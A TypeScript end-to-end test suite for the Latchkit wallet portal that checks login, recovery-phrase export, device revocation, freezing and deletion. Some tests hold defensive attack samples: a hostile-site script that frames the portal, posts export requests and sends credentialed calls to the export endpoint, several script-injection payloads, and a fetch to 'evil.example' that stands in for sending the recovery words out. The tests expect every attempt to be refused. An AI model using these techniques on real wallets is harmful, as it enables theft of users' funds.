import { describe, expect, vi } from 'vitest';
import type { ServedWallet } from '../frame/support/walletServices.js';
import { checkLooksInFull } from '../support/checkLooks.js';
import { continueToProvider } from '../support/continueToProvider.js';
import { countActs, measureActs } from '../support/countActs.js';
import { inOrder } from '../support/inOrder.js';
import { addressesOf, exportWallet, importedAddresses } from './support/exportWallet.js';
import type { PortalVisit } from './support/PortalVisit.js';
import { it as journey } from './support/portalVisits.js';

/** `it` with a second browser, which joined the same wallet by email alone. */
const it = journey.extend('other', { scope: 'file' }, async ({ portal, enter }) => {
  const visit = await enter(portal.email);
  await visit.logIn();
  return visit;
});

/** What a script of another site in the same browser gets from the portal at a URL. It runs in the page. */
async function attackPortal(url: string) {
  const messages: unknown[] = [];
  addEventListener('message', event => messages.push(event.data));
  for (const name of ['latchkit', 'latchkit-wallet', 'latchkit-portal'])
    new BroadcastChannel(name).addEventListener('message', event => messages.push(event.data));
  const frame = document.createElement('iframe');
  frame.src = `${url}/me#export`;
  document.body.append(frame);
  const opened = window.open(`${url}/me#export`, '');
  // The handle works until the portal answers with its opener policy.
  for (const end = Date.now() + 5_000; opened?.closed === false && Date.now() < end; ) {
    opened.postMessage({ type: 'EXPORT' }, '*');
    await new Promise(passed => setTimeout(passed, 50));
  }
  const contentOf = (view: Window | null | undefined) => {
    try {
      return view?.closed ? 'closed' : (view?.document.body.textContent ?? 'closed');
    } catch {
      return 'closed';
    }
  };
  // A frame shows an empty document of the own origin until its page was refused.
  for (const end = Date.now() + 5_000; contentOf(frame.contentWindow) === '' && Date.now() < end; )
    await new Promise(passed => setTimeout(passed, 50));
  const ask = (path: string, init: RequestInit) =>
    fetch(url + path, { credentials: 'include', ...init }).then(
      answer => answer.text(),
      () => 'refused',
    );
  const answers = [
    await ask('/me', {}),
    await ask('/v1/portal', {}),
    await ask('/v1/wallets/me/export', { method: 'POST', body: '{"code":"000000"}' }),
  ];
  const handle = opened?.closed === false && opened.length === 0 ? 'open' : 'closed';
  return { handle, frame: contentOf(frame.contentWindow), messages, answers };
}

/** What the page has of the words: its text, its attributes and its accessibility tree. */
async function visible({ page }: PortalVisit): Promise<string> {
  return (await page.content()) + (await page.locator('body').ariaSnapshot());
}

/** Holds the stored keys in another tab, so that nothing can delete them. @returns a function that ends that. */
async function holdKeys({ page, served }: PortalVisit): Promise<() => Promise<void>> {
  const tab = await page.context().newPage();
  await tab.goto(`${served.url}/me`);
  await tab.locator('main h1').waitFor();
  await tab.evaluate(
    () =>
      new Promise<void>((resolve, reject) => {
        const opened = indexedDB.open('latchkit-wallet');
        opened.onerror = () => reject(opened.error);
        opened.onsuccess = () => {
          const keys = opened.result.transaction('keys', 'readwrite').objectStore('keys');
          // A transaction lasts as long as it has requests.
          const hold = () => {
            keys.count().onsuccess = hold;
            resolve();
          };
          hold();
        };
      }),
  );
  return () => tab.close();
}

/** Lets the wait pass that keeps an export closed after a new device. */
async function passWait({ suite }: ServedWallet): Promise<void> {
  await suite.database.query(
    "update latchkit_wallet.wallet_installations set counts_from = counts_from - interval '25 hours'",
  );
}

describe('the portal', () => {
  inOrder();

  it('logs in on a new browser by link and code, and keeps that over a reload', async ({
    portal,
    served,
  }) => {
    const addresses = await addressesOf(portal);
    expect(addresses).toEqual([
      expect.stringMatching(/^0x[0-9a-fA-F]{40}$/),
      expect.stringMatching(/^\w{32,44}$/),
    ]);
    await portal.page.reload();
    await portal.shows('Your wallet');
    expect(await addressesOf(portal)).toEqual(addresses);
    expect(served.blocked).toEqual([]);
  });

  it.runIf(process.env.LATCHKIT_FULL)(
    'adds a login after a consent on this page that names both, and a code to the current address [SEC-75]',
    async ({ portal }) => {
      const { page, email } = portal;
      const add = async () => {
        await portal.open('logins');
        await portal.button('Add Google').click();
        await continueToProvider(page);
        await page.getByRole('button', { name: 'Continue as someone new' }).click();
        await portal.shows('Add this login to your wallet?');
        expect(await page.locator('dd').allTextContents()).toEqual([
          email,
          expect.stringMatching(/^Google: /),
        ]);
      };
      const before = portal.mails;
      await add();
      await portal.button('Leave it as it is').click();
      await page.getByText('This was not changed.').waitFor();
      expect(portal.mails).toBe(before);
      await add();
      await portal.confirm(() => portal.button('Add it').click());
      await page.getByText('Your logins were changed.').waitFor();
      await page.getByText(/^Google: /).waitFor();
    },
  );

  it('exports on the browser that created the wallet, lists 24 places, and covers the words whenever they are not held (V-05)', async ({
    portal,
  }) => {
    const { page } = portal;
    const { phrase } = await exportWallet(portal);
    const words = phrase.split(' ');
    expect(words).toHaveLength(24);
    const covered = async () => {
      const found = await visible(portal);
      return words.filter(word => new RegExp(`\\b${word}\\b`).test(found)).length < 4;
    };
    const hold = portal.button('Hold to show');
    const shown = page.locator('.pt-words span').first();
    const listed = page.getByRole('list', { name: 'Recovery phrase', exact: true }).getByRole('listitem');
    const texts = () => listed.allTextContents();
    await expect.poll(covered).toBe(true);
    // The places are there and empty while the words are covered (V-05).
    await expect.poll(texts).toEqual(Array.from({ length: 24 }, () => ''));
    for (const key of ['Space', 'Enter']) {
      await hold.focus();
      await page.keyboard.down(key);
      await expect.poll(() => shown.textContent()).toBe(words[0]);
      await page.keyboard.up(key);
      await expect.poll(covered).toBe(true);
    }
    await hold.hover();
    await page.mouse.down();
    await expect.poll(() => shown.textContent()).toBe(words[0]);
    await page.evaluate(() => dispatchEvent(new Event('blur')));
    await expect.poll(covered).toBe(true);
    await page.mouse.up();
    await page.getByRole('switch').click();
    await expect.poll(texts).toEqual(words);
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
    await expect.poll(covered).toBe(true);
    // Neither the address nor the storage of the page has a word.
    const stored = await page.evaluate(
      () => location.href + JSON.stringify({ ...localStorage, ...sessionStorage }),
    );
    expect(words.filter(word => stored.includes(` ${word} `))).toEqual([]);
    await portal.button('I wrote them down').click();
    await portal.shows('Check your copy');
    const fields = page.getByRole('textbox');
    const places = await fields.evaluateAll(found =>
      found.map(one => Number(/\d+/.exec((one as HTMLInputElement).labels?.[0]?.textContent ?? '')?.[0])),
    );
    for (const [at, place] of places.entries())
      await fields.nth(at).fill(at === 1 ? 'wrong' : (words[place - 1] ?? ''));
    await portal.button('Check').click();
    await page.getByText(`That isn’t word ${places[1]}.`).waitFor();
    await fields.nth(1).fill(` ${words[(places[1] ?? 1) - 1]?.toUpperCase()} `);
    await portal.button('Check').click();
    await portal.shows('Your copy is correct');
  });

  it.runIf(process.env.LATCHKIT_FULL)(
    'waits 24 hours on a browser that email alone added, then exports keys with the same addresses',
    async ({ other, served }) => {
      const [evm, solana] = await addressesOf(other);
      await other.open('export');
      await other.shows(/^Export opens /);
      await checkLooksInFull(other.page, 'export-wait');
      expect(await other.button('Send me a code').count()).toBe(0);
      await other.button('Email me when it opens').click();
      await other.page.getByText(`We will email ${other.email} when it opens.`).waitFor();
      await passWait(served);
      await served.suite.services.sendReminders();
      expect(other.mailed(/(You can export your wallet now)/)).toBeTruthy();
      await other.page.reload();
      const exported = await exportWallet(other);
      expect(await importedAddresses(exported)).toEqual({ evm, solana });
      expect(other.mailed(/(recovery phrase of your wallet was shown)/)).toBeTruthy();
    },
  );

  it('asks about a new device on every page, and revokes it with a fresh code', async ({ portal, other }) => {
    await portal.open('home');
    await portal.page.reload();
    await portal.page.getByText('A new device can open your wallet').waitFor();
    await checkLooksInFull(portal.page, 'home-new-device');
    await portal.goTo('Devices');
    await checkLooksInFull(portal.page, 'devices-new');
    await portal.button('No, revoke it').click();
    await portal.confirm(() => portal.button('Revoke').click());
    await expect.poll(() => portal.page.locator('.pt-rows .pt-row').count()).toBe(1);
    await other.open('devices');
    await other.page.reload();
    await other.shows('Log in to your wallet');
  });

  it.runIf(process.env.LATCHKIT_FULL)(
    'freezes with one press, also in the middle of a recovery, and unfreezes with a fresh code [SEC-76]',
    async ({ portal, enter }) => {
      await portal.open('home');
      await portal.page.getByRole('link', { name: 'Freeze' }).click();
      const newcomer = await enter(portal.email);
      await newcomer.startLogIn(async () => {
        await portal.button('Freeze for 72 hours').click();
        await portal.shows('Your wallet is frozen');
      });
      await newcomer.page.getByText('Your wallet is frozen. Unfreeze it first.').waitFor();
      await portal.goTo('Home', 'Your wallet');
      await portal.page.getByText(/^Your wallet is frozen until /).waitFor();
      await portal.open('freeze');
      await portal.confirm(() => portal.button('Unfreeze now').click());
      await portal.shows('Freeze your wallet');
    },
  );

  it.runIf(process.env.LATCHKIT_FULL)(
    'plans a deletion with a fresh code, and keeps the wallet with one press',
    async ({ portal }) => {
      await portal.open('deletion');
      expect(await portal.button('Tick the box to delete').isDisabled()).toBe(true);
      await portal.page.getByRole('checkbox').check();
      await portal.confirm(() => portal.button('Delete in 7 days').click());
      await portal.shows(/^Your wallet will be deleted on /);
      await portal.button('Keep my wallet').click();
      await portal.shows('Delete wallet');
    },
  );

  it('lists sites, and what happened', async ({ portal }) => {
    await portal.open('sites');
    await portal.shows('No sites yet');
    await portal.goTo('Activity');
    await portal.page.getByText('Words exported').first().waitFor();
    await portal.page.getByText('Device revoked').first().waitFor();
  });

  it.runIf(process.env.LATCHKIT_FULL)(
    'logs in with a provider in the whole tab',
    async ({ enter, served }) => {
      const visit = await enter();
      await visit.open();
      await visit.page.getByRole('button', { name: 'Continue with Google' }).click();
      await continueToProvider(visit.page);
      await visit.page.getByRole('button', { name: 'Continue as someone new' }).click();
      await visit.shows('Your wallet');
      // Neither the address nor the history has the result.
      expect(visit.page.url()).toBe(`${served.url}/me`);
      // Without an address, an export needs no code, but a login of the last five minutes.
      await visit.open('export');
      await visit.button('Show my words').click();
      await visit.button('Continue').click();
      await visit.shows('Your 24 words');
    },
  );

  it('runs no markup and no script that someone puts into it', async ({ portal }) => {
    await portal.open('home');
    await portal.shows('Your wallet');
    const ran = await portal.page.evaluate(async () => {
      const marks: string[] = [];
      Object.assign(window, { mark: (name: string) => marks.push(name) });
      const attempts: Record<string, () => unknown> = {
        markup: () => {
          document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="mark(\'markup\')">');
        },
        inner: () => {
          const box = document.createElement('div');
          box.innerHTML = '<svg onload="mark(\'inner\')"></svg>';
          document.body.append(box);
        },
        inline: () => {
          const script = document.createElement('script');
          script.textContent = "mark('inline')";
          document.body.append(script);
        },
        source: () => {
          const script = document.createElement('script');
          script.src = 'data:text/javascript,mark("source")';
          document.body.append(script);
        },
        handler: () => {
          const button = document.createElement('button');
          button.setAttribute('onclick', "mark('handler')");
          button.click();
        },
        link: () => {
          const link = document.createElement('a');
          link.href = "javascript:mark('link')";
          document.body.append(link);
          link.click();
        },
        // Later, because the browser lets the test's own call evaluate code.
        code: () => setTimeout(() => new Function("mark('code')")()),
        worker: () => new Worker('data:text/javascript,1'),
        policy: () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown };
          };
          trustedTypes.createPolicy('latchkit-keyring', { createScriptURL: (url: string) => url });
          marks.push('policy');
        },
        send: () =>
          fetch('https://evil.example/?words').then(
            () => marks.push('send'),
            () => {},
          ),
      };
      for (const attempt of Object.values(attempts)) {
        try {
          await attempt();
        } catch {
          // Refused, as it should be.
        }
      }
      await new Promise(passed => setTimeout(passed, 200));
      return marks;
    });
    expect(ran).toEqual([]);
  });

  it('is shown in no frame, and a page that opens it gets no handle on it [SEC-17]', async ({
    portal,
    served,
    enter,
  }) => {
    const host = await enter();
    const { page } = host;
    await page.goto(`${served.vaultUrl}/freeze`);
    const reached = await page.evaluate(async url => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
      await new Promise(passed => setTimeout(passed, 500));
      const opened = window.open(url);
      // The handle works until the portal answers with its opener policy.
      const end = Date.now() + 10_000;
      while (opened?.closed === false && Date.now() < end) {
        await new Promise(passed => setTimeout(passed, 50));
      }
      return { isClosed: opened?.closed, frames: opened?.length };
    }, `${served.url}/me`);
    expect(reached).toEqual({ isClosed: true, frames: 0 });
    for (const frame of page.frames()) {
      if (frame !== page.mainFrame()) expect(await frame.locator('main').count()).toBe(0);
    }
    expect(portal.email).not.toBe(host.email);
    await vi.waitFor(() => expect(page.context().pages()).toHaveLength(2));
    expect(
      await page
        .context()
        .pages()[1]
        ?.evaluate(() => window.opener),
    ).toBe(null);
  });

  it('shows open words to no script of another site, and closes them after five minutes', async ({
    portal,
    served,
  }) => {
    // An earlier test has added a device.
    await passWait(served);
    await portal.page.clock.install();
    const { phrase } = await exportWallet(portal);
    await portal.page.getByRole('switch').click();
    await portal.page
      .getByText(phrase.split(' ')[0] ?? '', { exact: true })
      .first()
      .waitFor();
    const evil = await portal.page.context().newPage();
    await evil.route('https://evil.example/', route =>
      route.fulfill({ contentType: 'text/html', body: 'Evil' }),
    );
    await evil.goto('https://evil.example/');
    const seen = await evil.evaluate(attackPortal, served.url);
    await evil.close();
    expect(seen).toEqual({
      handle: 'closed',
      frame: 'closed',
      messages: [],
      answers: ['refused', 'refused', 'refused'],
    });
    await portal.page.clock.fastForward(5 * 60_000);
    await portal.shows('The words are covered again');
  });

  it.runIf(process.env.LATCHKIT_FULL)(
    'forgets the browser with its keys, without a code, and shows the login after that',
    async ({ portal }) => {
      const keys = () =>
        portal.page.evaluate(
          () =>
            new Promise<number>((resolve, reject) => {
              const opened = indexedDB.open('latchkit-wallet');
              opened.onerror = () => reject(opened.error);
              opened.onsuccess = () => {
                const counted = opened.result.transaction('doors').objectStore('doors').count();
                counted.onsuccess = () => {
                  opened.result.close();
                  resolve(counted.result);
                };
              };
            }),
        );
      expect(await keys()).toBe(1);
      await portal.open('devices');
      await portal.button('Forget this one').click();
      const letDelete = await holdKeys(portal);
      await portal.page.getByRole('dialog').getByRole('button', { name: 'Forget this one' }).click();
      await portal.page.locator('.pt-skeleton').waitFor();
      expect(await portal.page.getByRole('heading', { name: 'Log in to your wallet' }).count()).toBe(0);
      await letDelete();
      await portal.shows('Log in to your wallet');
      expect(await keys()).toBe(0);
    },
  );
});

describe.runIf(process.env.LATCHKIT_FULL)('presses and fields in the portal', () => {
  it('are at most as many as a designer counted from the page of the wallet: two to freeze, four to the words', async ({
    enter,
  }) => {
    const visit = await enter();
    const { page } = visit;
    const acts = await countActs(page.context());
    await visit.logIn();
    const words = await measureActs(page, acts, async () => {
      await visit.goTo('Export', 'Export your wallet');
      await visit.confirm(() => visit.button('Send me a code').click());
      await visit.shows('Your 24 words');
      await visit.button('Hold to show').click();
    });
    expect(words.steps, words.names.join(', ')).toBeLessThanOrEqual(4);
    await visit.open('home');
    const freeze = await measureActs(page, acts, async () => {
      await page.getByRole('link', { name: 'Freeze' }).click();
      await visit.button('Freeze for 72 hours').click();
      await visit.shows('Your wallet is frozen');
    });
    expect(freeze.steps, freeze.names.join(', ')).toBeLessThanOrEqual(2);
  });
});
